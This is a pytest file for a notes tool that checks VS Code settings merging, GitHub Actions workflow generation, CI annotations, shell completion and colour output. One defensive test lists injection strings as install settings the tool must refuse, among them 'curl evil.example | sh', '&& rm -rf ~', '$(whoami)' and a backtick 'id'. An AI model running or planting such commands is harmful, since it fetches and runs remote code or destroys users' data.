"""Where the user works: VS Code's files merged (never overwritten), CI annotations, JSON for
editors, shell completion, colour only on a terminal."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import run

from notes_tool.features import install_source, jsonc

USER_SETTINGS = """\
// My settings: keep these comments.
{
    "editor.fontSize": 15, // big
    /* hide build output */
    "files.exclude": {
        "**/build": true,
    },
    "markdown.extension.toc.updateOnSave": true,
}
"""

USER_TASKS = """\
{
\t// a task of mine
\t"version": "2.0.0",
\t"tasks": [
\t\t{ "label": "build", "type": "shell", "command": "make" },
\t],
}
"""


def vscode(ws: Path) -> dict[str, str]:
    return {p.name: p.read_text() for p in sorted((ws / ".vscode").iterdir())}


def test_a_new_workspace_gets_vs_code_set_up(tmp_path: Path) -> None:
    result = run("init", str(tmp_path / "ws"))
    assert result.exit_code == 0
    files = vscode(tmp_path / "ws")
    settings = jsonc.load(files["settings.json"], "settings.json")
    assert settings["markdown.copyFiles.destination"] == {"**/*.md": "images/${documentBaseName}-${fileName}"}
    assert settings["files.exclude"] == {".notes-cache": True} == settings["search.exclude"]
    assert settings["markdown.extension.toc.updateOnSave"] is False
    (task,) = jsonc.load(files["tasks.json"], "tasks.json")["tasks"]
    assert task["command"] == "notes watch" and task["runOptions"] == {"runOn": "folderOpen"}
    snippet = jsonc.load(files["notes.code-snippets"], "snippets")["Timestamped heading"]
    assert snippet["scope"] == "markdown" and snippet["body"][0].startswith("## ${1:0:00}")


@pytest.mark.parametrize("crlf", [False, True])
def test_the_users_files_are_merged_into_comments_and_keys_kept(tmp_path: Path, crlf: bool) -> None:
    ws = tmp_path / "ws"
    assert run("init", str(ws)).exit_code == 0
    for name, text in (("settings.json", USER_SETTINGS), ("tasks.json", USER_TASKS)):
        (ws / ".vscode" / name).write_bytes((text.replace("\n", "\r\n") if crlf else text).encode())
    result = run("init", str(ws), "--vscode")
    assert result.exit_code == 0
    assert ".vscode/settings.json: added markdown.copyFiles.destination, files.exclude .notes-cache" in result.stderr
    assert ".vscode/tasks.json: added task 'notes watch'" in result.stderr
    settings_text = (ws / ".vscode" / "settings.json").read_bytes().decode()
    for kept in ("// My settings: keep these comments.", '"editor.fontSize": 15, // big', "/* hide build output */"):
        assert kept in settings_text
    assert (("\r\n" in settings_text) is crlf and ("\n" not in settings_text.replace("\r\n", "")) is crlf) or not crlf
    settings = jsonc.load(settings_text, "settings.json")
    assert settings["files.exclude"] == {"**/build": True, ".notes-cache": True}
    assert settings["markdown.extension.toc.updateOnSave"] is True  # the user's choice: kept
    assert settings["editor.fontSize"] == 15
    tasks_text = (ws / ".vscode" / "tasks.json").read_text()
    assert "// a task of mine" in tasks_text
    assert [t["label"] for t in jsonc.load(tasks_text, "tasks.json")["tasks"]] == ["build", "notes watch"]
    # A second run adds nothing and changes no byte.
    before = vscode(ws)
    again = run("init", str(ws), "--vscode")
    assert ".vscode/" not in again.stderr and vscode(ws) == before


def test_a_vs_code_file_that_is_not_json_is_left_alone(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    assert run("init", str(ws)).exit_code == 0
    (ws / ".vscode" / "settings.json").write_text("{ this is not json")
    result = run("init", str(ws), "--vscode")
    assert result.exit_code == 1 and "settings.json:1: not JSON with comments" in result.stderr
    assert (ws / ".vscode" / "settings.json").read_text() == "{ this is not json"


def set_install(root: Path, spec: str) -> None:
    toml = root / "notes.toml"
    toml.write_text(toml.read_text().replace('install = ""', f"install = {json.dumps(spec)}"))


def test_github_actions_workflow(tmp_path: Path) -> None:
    top = tmp_path / "repo"
    top.mkdir()
    subprocess.run(["git", "init", "-q", str(top)], check=True)
    assert run("init", str(top / "course")).exit_code == 0
    set_install(top / "course", "git+https://github.com/learner/notes_tool@v1.2")
    result = run("init", str(top / "course"), "--github-actions")
    assert result.exit_code == 0
    workflow = (top / ".github" / "workflows" / "notes.yml").read_text()
    assert "working-directory: course" in workflow
    assert "run: python -m pip install 'git+https://github.com/learner/notes_tool@v1.2'" in workflow
    assert "run: notes index --check" in workflow and "run: notes check" in workflow
    assert "on: [push, pull_request]" in workflow
    assert "notes.yml exists; kept it" in run("init", str(top / "course"), "--github-actions").stderr


def test_check_as_workflow_annotations_and_json(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "a.md").write_text("# A\n\n[gone](missing.md) and [anchor](#nowhere)\n")
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_WORKSPACE", str(tmp_path))
    result = run("check", ".", cwd=tmp_path)
    assert result.exit_code == 1
    assert "::error file=a.md,line=3::link to a missing file: missing.md" in result.stdout.splitlines()
    assert "::error file=a.md,line=3::no heading in this note has the anchor #nowhere" in result.stdout
    as_json = json.loads(run("check", ".", "--json", cwd=tmp_path).stdout.split("\n::", 1)[0])
    assert as_json[0] == {
        "path": "a.md",
        "line": 3,
        "severity": "error",
        "message": "link to a missing file: missing.md",
    }
    monkeypatch.delenv("GITHUB_ACTIONS")
    assert "::" not in run("check", ".", cwd=tmp_path).stdout


def test_check_annotates_a_warning_as_a_warning(example: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (example / "transcripts").mkdir()
    (example / "transcripts" / "09_gone.v1.txt").write_text("# 09_gone.md video 1\n0:00 hi\n")
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_WORKSPACE", str(example))
    result = run("check", cwd=example)
    assert result.exit_code == 0, result.stdout
    annotations = [line for line in result.stdout.splitlines() if line.startswith("::")]
    assert len(annotations) == 1 and annotations[0].startswith("::warning file=transcripts/09_gone.v1.txt")


def test_index_check_annotates_stale_files(example: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    note = example / "03_workflow-orchestration.md"
    note.write_text(note.read_text() + "\n## 12:00 A new section\n")
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_WORKSPACE", str(example))
    result = run("index", "--check", cwd=example)
    assert result.exit_code == 1
    assert "::error file=03_workflow-orchestration.md::generated parts are stale" in result.stdout


def test_index_check_annotates_a_note_it_cannot_read(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (workspace / "01_a.md").write_text("# A\n\n## B\n")
    assert run("index", cwd=workspace).exit_code == 0
    (workspace / "02_b.md").write_bytes(b"# Bad \xff\n")
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_WORKSPACE", str(workspace))
    result = run("index", "--check", cwd=workspace)
    assert result.exit_code == 1
    assert "::error file=02_b.md,line=1::not UTF-8 text (byte 0xff); save the file as UTF-8" in result.stdout


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_completion_scripts(shell: str) -> None:
    result = run("completion", shell)
    assert result.exit_code == 0
    assert f"_NOTES_COMPLETE={shell}_complete" in result.stdout


def test_completion_completes_commands(example: Path) -> None:
    env = {**os.environ, "_NOTES_COMPLETE": "bash_complete", "COMP_WORDS": "notes se", "COMP_CWORD": "1"}
    done = subprocess.run([sys.executable, "-m", "notes_tool"], env=env, capture_output=True, text=True, check=False)
    assert "plain,search" in done.stdout.splitlines()


def _in_a_terminal(args: list[str], cwd: Path, env: dict[str, str]) -> str:
    import pty

    leader, follower = pty.openpty()
    with subprocess.Popen(
        [sys.executable, "-m", "notes_tool", *args], cwd=cwd, stdout=follower, stderr=follower, env=env
    ):
        os.close(follower)
        output = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:
                break
            if not chunk:
                break
            output += chunk
    os.close(leader)
    return output.decode()


@pytest.mark.skipif(os.name == "nt", reason="a pseudo-terminal")
@pytest.mark.parametrize("no_color", [None, "1"])
def test_errors_are_red_on_a_terminal_unless_no_color(example: Path, no_color: str | None) -> None:
    env = {k: v for k, v in os.environ.items() if k != "NO_COLOR"} | ({"NO_COLOR": no_color} if no_color else {})
    shown = _in_a_terminal(["search", "zzzqqqxx"], example, env)
    assert "no matches" in shown
    assert ("\033[31m" in shown) is (no_color is None)


def test_errors_are_plain_when_piped(example: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "notes_tool", "search", "zzzqqqxx"], cwd=example, capture_output=True, text=True
    )
    assert "\033[" not in done.stderr and "no matches" in done.stderr


def test_without_a_known_install_the_workflow_is_not_written_and_init_says_what_to_set(tmp_path: Path) -> None:
    """The tests run from an editable install: a folder on this machine, which CI cannot reach."""
    result = run("init", str(tmp_path / "course"), "--github-actions")
    assert result.exit_code == 1
    assert "no workflow written: this notes_tool is an editable install from" in result.stderr
    assert 'install = "git+https://github.com/YOU/notes_tool@v1.2"' in result.stderr
    assert not (tmp_path / "course" / ".github").exists()
    assert (tmp_path / "course" / "notes.toml").exists()  # the rest of init was done


@pytest.mark.parametrize(
    "spec",
    [
        "notes-tool==1.2; curl evil.example | sh",
        "git+https://github.com/x/notes_tool@v1 && rm -rf ~",
        "git+https://github.com/x/notes_tool@${{ secrets.TOKEN }}",
        "notes-tool' || true '",
        "git+https://user:ghp_secret@github.com/x/notes_tool",
        "git+ssh://git@github.com/x/notes_tool",
        "file:///home/me/notes_tool",
        "../notes_tool",
        "$(whoami)",
        "notes-tool`id`",
    ],
)
def test_an_install_setting_a_shell_would_act_on_is_refused(tmp_path: Path, spec: str) -> None:
    assert run("init", str(tmp_path / "c")).exit_code == 0
    set_install(tmp_path / "c", spec)
    result = run("init", str(tmp_path / "c"), "--github-actions")
    assert result.exit_code == 1
    assert "notes.toml:" in result.stderr and "'install' must be a package name" in result.stderr
    assert not (tmp_path / "c" / ".github").exists()


@pytest.mark.parametrize(
    ("record", "spec"),
    [
        (
            {"url": "https://github.com/learner/notes_tool", "vcs_info": {"vcs": "git", "commit_id": "a" * 40}},
            f"git+https://github.com/learner/notes_tool@{'a' * 40}",
        ),
        (
            {"url": "https://example.org/dist/notes_tool-1.2-py3-none-any.whl", "archive_info": {}},
            "https://example.org/dist/notes_tool-1.2-py3-none-any.whl",
        ),
        (None, "notes-tool==1.2"),  # no record: installed from a package index
        ({"url": "file:///home/me/notes_tool", "dir_info": {}}, None),  # `pip install .` from a clone
        ({"url": "file:///home/me/notes_tool", "dir_info": {"editable": True}}, None),
        ({"url": "ssh://git@github.com/me/notes_tool", "vcs_info": {"vcs": "git", "commit_id": "b" * 40}}, None),
        ({"url": "https://me:token@github.com/me/notes_tool", "vcs_info": {"vcs": "git", "commit_id": "c"}}, None),
        ({"url": "https://hg.example.org/notes_tool", "vcs_info": {"vcs": "hg", "commit_id": "d"}}, None),
    ],
)
def test_the_workflow_installs_what_pip_recorded(record: dict[str, object] | None, spec: str | None) -> None:
    source = install_source.from_direct_url(None if record is None else json.dumps(record), "1.2")
    assert source.spec == spec
    if spec is None:
        assert "token" not in install_source.why_unknown(source)


def test_a_workflow_from_pips_record_says_where_it_installs_from(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A copy installed from a git URL: the workflow installs that very commit."""
    record = {"url": "https://github.com/learner/notes_tool", "vcs_info": {"vcs": "git", "commit_id": "e" * 40}}
    info = tmp_path / "site" / "notes_tool-1.2.dist-info"  # what pip leaves in site-packages
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: notes-tool\nVersion: 1.2\n")
    (info / "direct_url.json").write_text(json.dumps(record))
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    result = run("init", str(tmp_path / "c"), "--github-actions")
    assert result.exit_code == 0, result.stderr
    workflow = (tmp_path / "c" / ".github" / "workflows" / "notes.yml").read_text()
    assert f"- run: python -m pip install 'git+https://github.com/learner/notes_tool@{'e' * 40}'" in workflow
    assert "from where this notes_tool was installed (https://github.com/learner/notes_tool)" in workflow


@pytest.mark.parametrize(
    "spec",
    [
        "notes-tool",
        "notes-tool==1.2",
        "notes-tool[youtube]>=1.2,<2",
        "git+https://github.com/learner/notes_tool@v1.2",
        "git+https://github.com/learner/notes_tool.git@0123abc#egg=notes-tool",
        "https://example.org/notes_tool-1.2.tar.gz",
    ],
)
def test_an_install_setting_pip_understands_is_written_quoted(tmp_path: Path, spec: str) -> None:
    assert run("init", str(tmp_path / "c")).exit_code == 0
    set_install(tmp_path / "c", spec)
    assert run("init", str(tmp_path / "c"), "--github-actions").exit_code == 0
    assert f"- run: python -m pip install '{spec}'\n" in (tmp_path / "c" / ".github/workflows/notes.yml").read_text()
